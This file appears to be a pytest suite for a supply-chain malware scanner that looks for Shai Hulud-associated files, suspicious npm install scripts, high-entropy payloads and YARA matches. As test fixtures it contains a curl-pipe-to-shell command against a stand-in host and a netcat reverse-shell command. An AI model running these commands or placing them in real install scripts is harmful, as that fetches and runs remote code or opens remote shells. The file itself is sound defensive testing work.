import hashlib
import os
import string

import pytest

from wormsign import heuristics
from wormsign.entropy import EntropyCalculator, calculate_entropy, is_high_entropy
from wormsign.heuristics import analyze_scripts, inspect_candidate, scan_malware_files

SIX_MB = 6 * 1024 * 1024


def rules_of(findings):
    return [f.rule_id for f in findings]


# ---------------------------
# entropy
# ---------------------------
def test_entropy_bounds():
    assert calculate_entropy(b'') == 0.0
    assert calculate_entropy(b'aaaa') == 0.0
    assert calculate_entropy(bytes(range(256))) == pytest.approx(8.0)


def test_entropy_is_chunk_independent():
    data = os.urandom(10_000)
    chunked = EntropyCalculator()
    for i in range(0, len(data), 777):
        chunked.update(data[i:i + 777])
    assert chunked.digest() == pytest.approx(calculate_entropy(data))


def test_short_strings_are_never_high_entropy():
    alphabet = string.ascii_letters + string.digits + '+/'
    assert not is_high_entropy(alphabet[:40])
    assert is_high_entropy(alphabet)


# ---------------------------
# scripts
# ---------------------------
def test_clean_scripts():
    assert analyze_scripts({'scripts': {'test': 'jest --coverage', 'build': 'tsc -p .'}}) == []
    assert analyze_scripts({}) == []
    assert analyze_scripts({'scripts': 'not a mapping'}) == []


def test_pipe_to_shell_script():
    findings = analyze_scripts({'scripts': {'postinstall': 'curl -s https://evil.example/x | sh'}})
    assert rules_of(findings) == ['network_request', 'pipe_to_shell']
    assert findings[1].severity == 'high'
    assert findings[1].message == "Suspicious script detected in 'postinstall': Pipe to shell"
    assert findings[1].file == 'package.json'


def test_reverse_shell_and_ip():
    findings = analyze_scripts({'scripts': {'preinstall': 'nc 10.0.0.1 4444 -e /bin/sh'}})
    assert set(rules_of(findings)) == {'netcat_reverse_shell', 'ip_literal'}
    assert {f.severity for f in findings} == {'critical', 'low'}


def test_known_malware_signature():
    findings = analyze_scripts({'scripts': {'preinstall': 'node setup_bun.js'}})
    assert rules_of(findings) == ['malware_signature']
    assert findings[0].severity == 'critical'


def test_high_entropy_script():
    payload = string.ascii_letters + string.digits + '+/'
    findings = analyze_scripts({'scripts': {'install': payload}})
    assert 'high_entropy_script' in rules_of(findings)


def test_suppressed_rules_emit_nothing():
    script = {'scripts': {'postinstall': 'curl -s https://evil.example/x | sh'}}
    findings = analyze_scripts(script, suppressed_rules=['network_request', 'pipe_to_shell'])
    assert findings == []


# ---------------------------
# dropped files
# ---------------------------
def test_high_entropy_large_file(make_project):
    root = make_project({}, files={'bun_environment.js': os.urandom(SIX_MB)})
    findings, warnings = scan_malware_files(root)
    assert warnings == []
    assert rules_of(findings) == ['malware_file_high_entropy', 'malware_file']
    assert findings[0].severity == 'high'
    assert findings[0].message.startswith("HIGH RISK file detected: 'bun_environment.js' (High Entropy: ")
    assert f'Size: {SIX_MB} bytes' in findings[0].message


def test_constant_large_file_is_only_suspicious(make_project):
    root = make_project({}, files={'bun_environment.js': b'A' * SIX_MB})
    findings, warnings = scan_malware_files(root)
    assert warnings == []
    assert rules_of(findings) == ['malware_file']
    assert findings[0].message == "Suspicious file detected: 'bun_environment.js' (associated with Shai Hulud)"


def test_confirmed_malware_hash(make_project, monkeypatch):
    body = b'console.log("payload")'
    monkeypatch.setattr(heuristics, 'KNOWN_MALWARE_HASHES', {hashlib.sha256(body).hexdigest()})
    root = make_project({}, files={'setup_bun.js': body})
    findings, _ = scan_malware_files(root)
    assert rules_of(findings) == ['confirmed_malware']
    assert findings[0].severity == 'critical'
    assert findings[0].message.startswith("CONFIRMED MALWARE file detected: 'setup_bun.js'")


def test_results_follow_filename_order(make_project):
    root = make_project({}, files={'cloud.json': '{}', 'setup_bun.js': 'x', 'truffleSecrets.json': '{}'})
    findings, _ = scan_malware_files(root)
    assert [f.file for f in findings] == ['setup_bun.js', 'truffleSecrets.json', 'cloud.json']


def test_unreadable_file_warns(make_project, monkeypatch):
    def boom(path, with_entropy=False):
        raise PermissionError('denied')

    monkeypatch.setattr(heuristics, 'digest_file', boom)
    root = make_project({}, files={'setup_bun.js': 'x'})
    findings, warnings = inspect_candidate(root / 'setup_bun.js')
    assert rules_of(findings) == ['malware_file']
    assert warnings == ["Suspicious file detected: 'setup_bun.js' (associated with Shai Hulud) - could not read: denied"]


def test_suppressed_file_rules(make_project):
    root = make_project({}, files={'setup_bun.js': 'x'})
    findings, _ = scan_malware_files(root, suppressed_rules=['malware_file'])
    assert findings == []


def test_no_candidates(make_project):
    assert scan_malware_files(make_project({})) == ([], [])


# ---------------------------
# YARA
# ---------------------------
def test_yara_disabled_by_default():
    assert heuristics.load_yara_rules(None) is None
    assert heuristics.load_yara_rules({'enabled': False, 'rules_path': 'x.yar'}) is None


def test_yara_rules_match_candidate(make_project):
    pytest.importorskip('yara')
    rules_src = (
        'rule SetupBunDropper : malware\n'
        '{\n'
        '  meta:\n'
        '    description = "fake bun installer"\n'
        '  strings:\n'
        '    $a = "evil-marker"\n'
        '  condition:\n'
        '    $a\n'
        '}\n'
    )
    root = make_project({}, files={'setup_bun.js': 'var x = "evil-marker";', 'rules/dropper.yar': rules_src})
    rules = heuristics.load_yara_rules({'enabled': True, 'rules_path': 'rules/dropper.yar'}, base_dir=root)
    assert rules is not None

    findings, _ = scan_malware_files(root, yara_rules=rules)
    yara_findings = [f for f in findings if f.rule_id == 'yara_match']
    assert len(yara_findings) == 1
    assert yara_findings[0].severity == 'high'
    assert 'SetupBunDropper' in yara_findings[0].message
    assert 'fake bun installer' in yara_findings[0].message
